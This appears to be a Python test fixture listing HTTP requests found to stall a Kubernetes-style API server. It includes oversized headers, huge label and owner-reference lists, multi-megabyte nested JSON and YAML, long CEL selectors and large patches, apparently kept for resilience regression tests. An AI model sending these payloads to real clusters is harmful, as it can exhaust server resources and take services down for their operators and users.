"""The requests that were found to stop a server, each with a body made once.

    REQUESTS["quota scopes"].body()

tests/clients/test_canary.py sends them from many clients at once, attacks.py one after the other.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

LARGEST = 3 * 1024 * 1024
NAMESPACE = "/api/v1/namespaces/default"
JSON, MERGE_PATCH = "application/json", "application/merge-patch+json"
LARGE_OBJECT, LARGE_POD = "large", "many-env"


@dataclass(frozen=True)
class Hostile:
    """One request. ``body``: makes it once. ``most``: seconds after which the client stops reading the answer."""

    method: str
    path: str
    body: Callable[[], bytes] = bytes
    headers: Mapping[str, str] = field(default_factory=dict)
    content_type: str = JSON
    most: float = 60.0


def _json(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def _pod(**spec: Any) -> Callable[[], bytes]:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"generateName": "hostile-"}}
    return lambda: _json({**pod, "spec": {"containers": [{"name": "c", "image": "i"}], **spec}})


def _owners() -> bytes:
    owners = [{"apiVersion": "v", "kind": "k", "name": f"n{i}", "uid": f"{i}"} for i in range(50_000)]
    kind = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    return _json({**kind, "metadata": {"ownerReferences": owners}})[:LARGEST]


def _labels() -> bytes:
    labels = {f"!{i}": "" for i in range(200_000)}
    return _json({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "labels", "labels": labels}})


def _service() -> bytes:
    ports = [{"name": f"p{i}", "port": 1 + i, "nodePort": 30000 + i % 2700} for i in range(6000)]
    service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "ports"}}
    return _json({**service, "spec": {"type": "NodePort", "ports": ports}})


def _quota() -> bytes:
    scopes = ["BestEffort", "NotBestEffort", "Terminating", "NotTerminating"] * 2000
    return _json({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "q"}, "spec": {"scopes": scopes}})


def _claim() -> bytes:
    text = " && ".join(["device.driver == 'dra.example.com'"] * 210)
    selectors = [{"cel": {"expression": text}} for _ in range(32)]
    requests = [{"name": f"r{i}", "exactly": {"deviceClassName": "c", "selectors": selectors}} for i in range(12)]
    kind = {"apiVersion": "resource.k8s.io/v1", "kind": "ResourceClaim"}
    return _json({**kind, "metadata": {"name": "claim"}, "spec": {"devices": {"requests": requests}}})


def _policy() -> bytes:
    variables = [{"name": f"v{i}", "expression": "object.metadata.name == 'a'"} for i in range(8000)]
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingAdmissionPolicy"}
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    spec = {
        "matchConstraints": {"resourceRules": [rule]},
        "variables": variables,
        "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": "[]"}}],
        "reinvocationPolicy": "Never",
    }
    return _json({**kind, "metadata": {"name": "hostile.example.com"}, "spec": spec})


def _environment(order: int) -> list[dict[str, str]]:
    return [{"name": f"E{i}", "value": "v"} for i in range(6000)][::order]


def _reordered() -> bytes:
    """Return a strategic merge patch that reverses the environment of LARGE_POD's container."""
    order = [{"name": each["name"]} for each in _environment(-1)]
    container = {"name": "c", "$setElementOrder/env": order, "env": order}
    return _json({"spec": {"template": {"spec": {"containers": [container]}}}})


def _spread() -> list[dict[str, Any]]:
    return [{"maxSkew": 1, "topologyKey": f"k{i}", "whenUnsatisfiable": "DoNotSchedule"} for i in range(6000)]


def deployment() -> bytes:
    """Return the Deployment that ``reordered env`` patches."""
    labels = {"app": "a"}
    container = {"name": "c", "image": "i", "env": _environment(1)}
    template = {"metadata": {"labels": labels}, "spec": {"containers": [container]}}
    spec = {"replicas": 0, "selector": {"matchLabels": labels}, "template": template}
    return _json({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": LARGE_POD}, "spec": spec})


def large_object() -> bytes:
    """Return the ConfigMap whose history is read."""
    data = {"text": "x" * (1000 * 1000)}
    return _json({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": LARGE_OBJECT}, "data": data})


def nested(inner: bytes, size: int = LARGEST) -> bytes:
    """Return a list of many values as JSON or YAML."""
    return b"[" + b",".join([inner] * ((size - 2) // (len(inner) + 1))) + b"]"


_SOURCES = [{"configMap": {"name": f"c{i}"}} for i in range(6000)]
_OBJECTS = b'{"a":' + nested(b'{"":0}', LARGEST - 6) + b"}"
_PODS, _CONFIG_MAPS = f"{NAMESPACE}/pods?dryRun=All", f"{NAMESPACE}/configmaps"
_HISTORY = f"{_CONFIG_MAPS}?fieldSelector=metadata.name={LARGE_OBJECT}"
_REVISIONS = "/apis/history.kubechronicle.dev/v1/namespaces/default/revisions?content=full"
_SELF = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
REQUESTS: Mapping[str, Hostile] = {
    "accept": Hostile("GET", _CONFIG_MAPS, headers={"accept": ",".join(["a/b"] * 15_700)}),
    "self review owners": Hostile("POST", _SELF, _owners),
    "projected sources": Hostile(
        "POST",
        _PODS,
        _pod(volumes=[{"name": "v", "projected": {"sources": _SOURCES}}]),
    ),
    "configMap items": Hostile(
        "POST",
        _PODS,
        _pod(volumes=[{"name": "v", "configMap": {"items": [{"key": f"k{i}", "path": f"p{i}"} for i in range(6000)]}}]),
    ),
    "spread constraints": Hostile("POST", _PODS, _pod(topologySpreadConstraints=_spread())),
    "resource claims": Hostile(
        "POST", _PODS, _pod(resourceClaims=[{"name": f"c{i}", "resourceClaimName": "c"} for i in range(6000)])
    ),
    "service ports": Hostile("POST", f"{NAMESPACE}/services?dryRun=All", _service),
    "quota scopes": Hostile("POST", f"{NAMESPACE}/resourcequotas?dryRun=All", _quota),
    "claim selectors": Hostile("POST", "/apis/resource.k8s.io/v1/namespaces/default/resourceclaims?dryRun=All", _claim),
    "reordered env": Hostile(
        "PATCH",
        f"/apis/apps/v1/namespaces/default/deployments/{LARGE_POD}?dryRun=All",
        _reordered,
        content_type="application/strategic-merge-patch+json",
    ),
    "policy variables": Hostile(
        "POST", "/apis/admissionregistration.k8s.io/v1/mutatingadmissionpolicies?dryRun=All", _policy
    ),
    "yaml numbers": Hostile("POST", _SELF, lambda: nested(b"1e1"), content_type="application/yaml"),
    "bad labels": Hostile("POST", _CONFIG_MAPS, _labels),
    "json lists": Hostile("POST", _SELF, lambda: b'{"a":' + nested(b"[]", LARGEST - 6) + b"}"),
    "json objects": Hostile("POST", _SELF, lambda: _OBJECTS),
    "delete options": Hostile("DELETE", f"{_CONFIG_MAPS}/none", lambda: _OBJECTS),
    "large update": Hostile(
        "PATCH",
        f"{_CONFIG_MAPS}/{LARGE_OBJECT}",
        lambda: b'{"data":{"n":"1"}}',
        content_type=MERGE_PATCH,
    ),
    "large as yaml": Hostile("GET", f"{_CONFIG_MAPS}/{LARGE_OBJECT}", headers={"accept": "application/yaml"}),
    "old watch": Hostile("GET", f"{_HISTORY}&watch=1&resourceVersion={{revision}}&timeoutSeconds=3", most=5.0),
    "revisions": Hostile("GET", _REVISIONS),
    "revisions watch": Hostile("GET", f"{_REVISIONS}&watch=1&resourceVersion={{revision}}&timeoutSeconds=3", most=5.0),
}
